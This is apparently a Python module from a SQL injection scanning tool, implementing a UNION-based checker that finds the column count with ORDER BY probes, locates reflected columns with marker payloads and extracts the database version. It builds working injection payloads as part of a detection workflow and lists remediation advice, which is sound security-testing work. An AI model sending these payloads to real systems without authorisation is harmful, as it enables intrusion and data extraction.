"""
UNION-based checker.

Three phases against one parameter:

  1. ORDER BY binary search for the column count of the original query
  2. one UNION SELECT of numbered markers to find reflected positions
  3. version-function extraction through the first reflected position

Only a successful extraction produces a Finding.
"""

import re
from typing import List, Optional, Tuple, Union

from sqliprobe.checkers.base import BaseChecker
from sqliprobe.core.fingerprint import contains_database_error
from sqliprobe.core.models import (DatabaseType, Evidence, Finding,
                                   InjectionType, Parameter, ProbeRequest,
                                   Severity)

MAX_COLUMNS = 10
MARKER_PREFIX = "SQLINJTEST"
MARKER_PATTERN = re.compile(MARKER_PREFIX + r"(\d+)")
VERSION_PATTERN = re.compile(
    r"(MySQL|MariaDB|PostgreSQL|Microsoft SQL Server|Oracle|SQLite)[^<>]{0,50}\d+\.\d+",
    re.IGNORECASE,
)

# MySQL, MySQL/MSSQL, PostgreSQL, Oracle (from v$version), SQLite
VERSION_FUNCTIONS = ("VERSION()", "@@VERSION", "version()", "BANNER", "sqlite_version()")

RECOMMENDATIONS = (
    "Use parameterized queries (prepared statements)",
    "Implement strict input validation",
    "Use ORM frameworks with query builders",
    "Limit database user privileges",
    "Sanitize error messages in production",
)


def order_by_payload(n: int) -> str:
    return f"' ORDER BY {n}--"


def marker_payload(columns: int) -> str:
    markers = ",".join(f"'{MARKER_PREFIX}{i}'" for i in range(1, columns + 1))
    return f"' UNION SELECT {markers}--"


def union_payload(columns: int, position: int, expression: str) -> str:
    cols = [expression if i == position else "NULL" for i in range(1, columns + 1)]
    return f"' UNION SELECT {','.join(cols)}--"


def reflected_positions(body: str) -> List[int]:
    """Marker positions echoed in *body*, in order of first appearance."""
    seen: List[int] = []
    for m in MARKER_PATTERN.finditer(body or ""):
        pos = int(m.group(1))
        if pos not in seen:
            seen.append(pos)
    return seen


def extract_version_string(body: str) -> Optional[str]:
    m = VERSION_PATTERN.search(body or "")
    return m.group().strip() if m else None


def identify_database(version: Optional[str]) -> DatabaseType:
    if not version:
        return DatabaseType.UNKNOWN
    low = version.lower()
    if "mysql" in low:
        return DatabaseType.MYSQL
    if "mariadb" in low:
        return DatabaseType.MARIADB
    if "postgres" in low:
        return DatabaseType.POSTGRESQL
    if "microsoft sql server" in low or "mssql" in low:
        return DatabaseType.MSSQL
    if "oracle" in low:
        return DatabaseType.ORACLE
    if "sqlite" in low:
        return DatabaseType.SQLITE
    return DatabaseType.UNKNOWN


class UnionBasedChecker(BaseChecker):

    name = "UNION-based SQL injection"

    def test(self, request: ProbeRequest, param: Union[Parameter, str]) -> Optional[Finding]:
        param = self.resolve(request, param)
        self._info(f"Testing '{param.name}' for UNION-based SQL injection")

        baseline = self.baseline(request)
        if not baseline.success:
            if self.logger:
                self.logger.warn(f"Baseline failed for '{param.name}': {baseline.error}")
            return None

        columns = self.discover_column_count(request, param)
        if columns == -1:
            self._debug(f"Could not determine column count for '{param.name}'")
            return None
        self._info(f"Original query has {columns} column(s)")

        positions = self.find_reflected_columns(request, param, columns)
        if not positions:
            self._debug(f"No reflected column positions for '{param.name}'")
            return None
        self._info(f"Reflected column positions: {positions}")

        extracted = self.extract_version(request, param, columns, positions[0])
        if extracted is None:
            self._debug(f"No UNION-based SQL injection in '{param.name}'")
            return None

        payload, data = extracted
        return self._build(request, param, columns, positions, payload, data)

    # ── phases ──────────────────────────────────────────────────

    def discover_column_count(self, request: ProbeRequest, param: Parameter) -> int:
        """Largest N in [1, MAX_COLUMNS] accepted by ORDER BY N, or -1."""
        low, high = 1, MAX_COLUMNS
        valid = -1
        while low <= high:
            if self.cancelled():
                return -1
            mid = (low + high) // 2
            resp = self.probe(request, param, order_by_payload(mid))
            if resp.success and not contains_database_error(resp.body):
                valid = mid
                low = mid + 1
            else:
                high = mid - 1
        return valid

    def find_reflected_columns(self, request: ProbeRequest, param: Parameter,
                               columns: int) -> List[int]:
        resp = self.probe(request, param, marker_payload(columns))
        if not resp.success:
            return []
        return reflected_positions(resp.body)

    def extract_version(self, request: ProbeRequest, param: Parameter, columns: int,
                        position: int) -> Optional[Tuple[str, str]]:
        """(payload, extracted text) for the first version function that leaks."""
        for func in VERSION_FUNCTIONS:
            if self.cancelled():
                return None
            payload = union_payload(columns, position, func)
            resp = self.probe(request, param, payload)
            if not resp.success:
                continue
            data = extract_version_string(resp.body)
            if data:
                return payload, data
        return None

    def _build(self, request: ProbeRequest, param: Parameter, columns: int,
               positions: List[int], payload: str, data: str) -> Finding:
        db = identify_database(data)
        evidence = [
            Evidence(payload=f"ORDER BY {columns}",
                     observation=f"Original query has {columns} columns"),
            Evidence(payload=f"Injectable column positions: {positions}",
                     observation="These columns reflect data in the response"),
            Evidence(payload=payload, response_snippet=self.abbreviate(data),
                     observation="Successfully extracted data using UNION SELECT"),
        ]

        desc = (f"Union-based SQL injection vulnerability detected in parameter '{param.name}'. "
                f"The original query has {columns} columns. Column positions {positions} "
                "reflect data in the response. ")
        if db is not DatabaseType.UNKNOWN:
            desc += f"Database identified as {db.display_name}. "
        desc += (f"Successfully extracted data: {data}. An attacker can use UNION SELECT to "
                 "extract any data from the database, including sensitive information from "
                 "other tables.")

        finding = Finding(
            url=request.url,
            parameter=param.name,
            location=param.location,
            injection_type=InjectionType.UNION_BASED,
            severity=Severity.CRITICAL,
            confidence=95,
            payload=payload,
            description=desc,
            database=db,
            recommendations=RECOMMENDATIONS,
            evidence=evidence,
        )
        self._confirmed(finding)
        return finding
